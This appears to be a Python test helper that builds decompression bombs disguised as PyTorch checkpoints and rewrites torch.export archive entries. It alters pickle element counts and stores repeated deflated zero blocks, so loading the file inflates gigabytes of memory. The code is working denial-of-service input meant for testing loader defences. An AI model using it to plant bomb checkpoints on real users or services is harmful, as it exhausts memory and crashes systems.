"""Decompression bombs shaped like PyTorch checkpoints, built in milliseconds, and
torch.export archives rewritten entry by entry.

`torch.save` writes a ZIP archive: `data.pkl` names each storage by key and element count,
and `data/<key>` holds its bytes. `checkpoint_bomb` saves a real checkpoint with one small
uint8 tensor, rewrites the counts in the pickle to `expanded_bytes`, and stores that many
zero bytes deflated: torch.load would allocate and inflate all of them. The deflate stream
is one fully flushed block of zeros repeated (each block stands alone after a full
flush), so a gigabyte costs one megabyte of compression work.
"""

from __future__ import annotations

import io
import json
import struct
import zipfile
import zlib
from collections.abc import Callable
from typing import Any

import torch

_SEED_ELEMENTS = 1 << 16  # pickled as a 4-byte BININT, like any count below 2**31
_CHUNK = bytes(1 << 20)


def checkpoint_bomb(expanded_bytes: int) -> bytes:
    """A checkpoint archive of a few MB whose one tensor inflates to `expanded_bytes` (a
    multiple of 1 MiB, below 2**31)."""
    assert expanded_bytes % len(_CHUNK) == 0 and expanded_bytes < 2**31
    buffer = io.BytesIO()
    state = {"bomb": torch.zeros(_SEED_ELEMENTS, dtype=torch.uint8)}
    torch.save({"arch": "digits-resnet", "state_dict": state, "meta": {}}, buffer)
    members: list[tuple[str, bytes, int, int, int]] = []  # name, data, method, crc, size
    with zipfile.ZipFile(buffer) as source:
        for info in source.infolist():
            data = source.read(info)
            if info.filename.endswith("/data.pkl"):
                seed, count = (b"J" + struct.pack("<i", n) for n in (_SEED_ELEMENTS, expanded_bytes))
                data = data.replace(seed, count)
                members.append((info.filename, data, zipfile.ZIP_STORED, zlib.crc32(data), len(data)))
            elif info.filename.endswith("/data/0"):
                members.append((info.filename, *_deflated_zeros(expanded_bytes)))
            else:
                members.append((info.filename, data, zipfile.ZIP_STORED, zlib.crc32(data), len(data)))
    return _zip(members)


def _deflated_zeros(size: int) -> tuple[bytes, int, int, int]:
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = compressor.compress(_CHUNK) + compressor.flush(zlib.Z_FULL_FLUSH)
    stream = block * (size // len(_CHUNK)) + compressor.flush(zlib.Z_FINISH)
    crc = 0
    for _ in range(size // len(_CHUNK)):
        crc = zlib.crc32(_CHUNK, crc)
    return stream, zipfile.ZIP_DEFLATED, crc, size


def _zip(members: list[tuple[str, bytes, int, int, int]]) -> bytes:
    """A plain (non-ZIP64) archive: local headers and data, then the central directory."""
    out, directory = io.BytesIO(), io.BytesIO()
    for name, data, method, crc, size in members:
        encoded = name.encode()
        offset = out.tell()
        out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, method, 0, 0, crc, len(data), size,
                              len(encoded), 0) + encoded + data)  # fmt: skip
        entry = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, method, 0, 0, crc, len(data), size,
                            len(encoded), 0, 0, 0, 0, 0, offset)  # fmt: skip
        directory.write(entry + encoded)
    start = out.tell()
    out.write(directory.getvalue())
    out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members),
                          len(directory.getvalue()), start, 0))  # fmt: skip
    return out.getvalue()


def rewritten(archive: bytes, change: Callable[[str, bytes], bytes | None]) -> bytes:
    """The archive with each entry replaced by `change(name, data)` (None drops it)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(archive)) as source, zipfile.ZipFile(out, "w") as target:
        for info in source.infolist():
            data = change(info.filename, source.read(info))
            if data is not None:
                target.writestr(info.filename, data)
    return out.getvalue()


def edit_weights_config(archive: bytes, edit: Callable[[dict[str, Any]], None]) -> bytes:
    """A torch.export archive with its weights' config (names, layouts) changed by `edit`."""

    def change(name: str, data: bytes) -> bytes:
        if not name.endswith("data/weights/model_weights_config.json"):
            return data
        config = json.loads(data)
        edit(config["config"])
        return json.dumps(config).encode()

    return rewritten(archive, change)
